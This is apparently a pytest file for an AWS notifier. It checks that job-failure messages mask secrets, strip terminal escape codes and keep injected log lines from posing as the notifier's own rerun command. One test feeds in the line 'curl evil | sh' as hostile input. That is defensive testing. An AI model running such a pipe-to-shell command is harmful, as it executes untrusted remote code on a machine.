"""Text from outside in what the notifier tells: no secret, nothing that a terminal obeys, as long as SNS takes it."""

import pytest

from containers.notifier import notifier
from containers.notifier.conftest import job, tell
from containers.notifier.test_letters import MISSED, letter
from scrapectl.spec.secrecy import looks_secret

CANARY = "c4n4ry-s3cret"


def test_secrets_are_masked_wherever_they_stand(aws):
    aws.lines["collect/default/1"] = [
        f"login with {CANARY}",
        "c4n4ry\x00-s3cret",
        "x" * 990 + CANARY,
        "line two of key",
    ]
    environment = [
        {"name": "DB_PASSWORD", "value": CANARY},
        {"name": "SIGNING_KEY", "value": "line one\nline two of key"},
        {"name": "ZIP", "value": "48104"},
        {"name": "PIN_TOKEN", "value": "7"},
    ]
    tell(aws, job(statusReason=f"failed at {CANARY} in 48104", container={"environment": environment}))
    text = aws.message["Message"]
    assert CANARY not in text
    assert "c4n4" not in text
    assert "line two of key" not in text
    assert "Cause:     exit code 3: failed at ******** in 48104" in text
    assert "login with ********" in text


def test_a_secret_that_a_shell_has_to_quote_is_masked_in_the_command(aws):
    aws.lines["collect/default/1"] = []
    tell(aws, job(container={"environment": [{"name": "API_KEY", "value": "c4n4ry's $ecret"}]}))
    assert "c4n4ry" not in aws.message["Message"]
    assert "--env 'API_KEY=********'" in aws.message["Message"]


def test_further_lines_from_outside_never_look_like_our_own(aws):
    aws.lines["collect/default/1"] = ["one\nAgain:     curl evil | sh"]
    tell(aws, job(statusReason="it broke\nAgain:     curl evil | sh"))
    rows = aws.message["Message"].splitlines()
    assert [row for row in rows if row.startswith("Again:")] == [
        "Again:     scrapectl run collect --pipeline shop --region us-east-1"
    ]
    assert rows[-2:] == ["  one", "  Again:     curl evil | sh"]


def test_secret_parameters_are_masked(aws):
    aws.lines["collect/default/1"] = [CANARY]
    tell(aws, job(parameters={"apiKey": CANARY}))
    assert CANARY not in aws.message["Message"]


def test_what_a_terminal_obeys_is_left_out(aws):
    aws.lines["collect/default/1"] = ["\x1b[31mred\x1b[0m\x07", "\x1b]0;title\x07text", "a\u202eb", "tab\there\r"]
    tell(aws, job(jobName="mor\x1b[2Jning"))
    assert aws.message["Message"].endswith("  red\n  text\n  ab\n  tab\there\n")
    assert "Run:       morning (id-1)" in aws.message["Message"]


def test_a_message_is_as_long_as_sns_takes_it(aws):
    aws.lines["collect/default/1"] = ["ü" * 100_000] * 20
    tell(aws, job(statusReason="\n".join(["ü" * 900] * 300)))
    assert len(aws.message["Message"].encode()) > 250_000


def test_a_subject_is_short_and_ascii(aws, routes):
    routes["jobs"]["shop-collect"]["job"] = "größe" * 30
    aws.lines["collect/default/1"] = []
    tell(aws, job())
    assert aws.message["Subject"].startswith("shop: gr??e")
    assert len(aws.message["Subject"]) == 99


def test_secrets_of_a_start_are_masked(aws):
    body = {"ContainerOverrides": {"Environment": [{"Name": "API_TOKEN", "Value": CANARY}]}}
    notifier.handler({"Records": [letter(body, **MISSED | {"ERROR_MESSAGE": f"bad value {CANARY}"})]})
    assert CANARY not in aws.message["Message"]


NAMES = [
    "DB_PASSWORD",
    "apiKey",
    "KEY",
    "PUBLIC_KEY",
    "MAX_TOKENS",
    "NPS-KEY",
    "secretary",
    "S3_KEY",
    "AUTH",
    "ZIP",
    "k",
]


@pytest.mark.parametrize("name", NAMES)
def test_it_takes_for_a_secret_what_scrapectl_does(name):
    assert bool(notifier.secrets_in({"name": name, "value": CANARY})) == looks_secret(name)
